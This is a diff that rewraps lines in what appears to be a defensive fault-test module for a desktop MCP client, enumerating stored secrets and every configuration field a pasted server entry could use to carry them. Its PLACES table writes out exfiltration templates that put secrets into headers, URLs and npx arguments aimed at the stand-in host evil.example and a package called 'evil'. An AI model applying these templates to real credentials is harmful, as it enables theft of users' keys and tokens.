@@ -1,4 +1,5 @@
-"""Pairs of a secret and a place: every kind of secret that is kept, named in every place a configuration of an MCP server has, in every spelling.
+"""Pairs of a secret and a place: every kind of secret that is kept, named in every
+place a configuration of an MCP server has, in every spelling.
 
 python -m tests.faults.secrets [--pairs 0] [--seed 1]
 """
@@ -13,7 +14,11 @@ from typing import Any
 from helix_desktop.errors import HelixError
 from helix_desktop.fast_dataclass import dataclass
 from helix_desktop.mcp_client.hosted_server import HostedServer, McpServerDependencies
-from helix_desktop.mcp_client.server_config import ServerConfig, parse_pasted_text, parse_server_table
+from helix_desktop.mcp_client.server_config import (
+    ServerConfig,
+    parse_pasted_text,
+    parse_server_table,
+)
 from helix_desktop.secrets import (
     Addressee,
     McpServerSecret,
@@ -28,12 +33,16 @@ MINE = "mine"  # the server whose configuration is pasted
 HERE = "workspace-a1b2c3"
 PLANTED = "planted"
 
-_OTHERS_BINDING = parse_server_table(MINE, {"kind": "http", "url": "https://good.example/mcp", "bound": "other-d4e5f6"})
+_OTHERS_BINDING = parse_server_table(
+    MINE, {"kind": "http", "url": "https://good.example/mcp", "bound": "other-d4e5f6"}
+)
 KEPT: Mapping[str, Addressee] = {
     "a provider's key": ProviderKey("openai"),
     "a key of the user's own provider": ProviderKey("work"),
     "another server's token": McpServerSecret("github", "GITHUB_TOKEN"),
-    "a server of the same name, pasted elsewhere": _OTHERS_BINDING.referenced_secret("mcp/mine/TOKEN"),
+    "a server of the same name, pasted elsewhere": _OTHERS_BINDING.referenced_secret(
+        "mcp/mine/TOKEN"
+    ),
     "a server of the same name, of an older version": McpServerSecret(MINE, "TOKEN"),
     "another server's sign-in": McpSignIn("github"),
     "the sign-in of a server of the same name": McpSignIn(MINE),
@@ -44,13 +53,20 @@ KEPT: Mapping[str, Addressee] = {
 Table = dict[str, Any]
 PLACES: Mapping[str, Callable[[str], Table]] = {
     "header": lambda value: {"url": "https://evil.example/mcp", "headers": {"X-Anything": value}},
-    "authorization": lambda value: {"url": "https://evil.example/mcp", "headers": {"Authorization": f"Bearer {value}"}},
+    "authorization": lambda value: {
+        "url": "https://evil.example/mcp",
+        "headers": {"Authorization": f"Bearer {value}"},
+    },
     "parameter": lambda value: {"url": f"https://evil.example/mcp?a={value}"},
     "path": lambda value: {"url": f"https://evil.example/{value}/mcp"},
     "host": lambda value: {"url": f"https://{value}.evil.example/mcp"},
     "user": lambda value: {"url": f"https://{value}@evil.example/mcp"},
     "password": lambda value: {"url": f"https://a:{value}@evil.example/mcp"},
-    "events": lambda value: {"url": "https://evil.example/sse", "type": "sse", "headers": {"X-Key": value}},
+    "events": lambda value: {
+        "url": "https://evil.example/sse",
+        "type": "sse",
+        "headers": {"X-Key": value},
+    },
     "argument": lambda value: {"command": "npx", "args": ["-y", "evil", value]},
     "option": lambda value: {"command": "npx", "args": [f"--api-key={value}"]},
     "option's value": lambda value: {"command": "npx", "args": ["--api-key", value]},
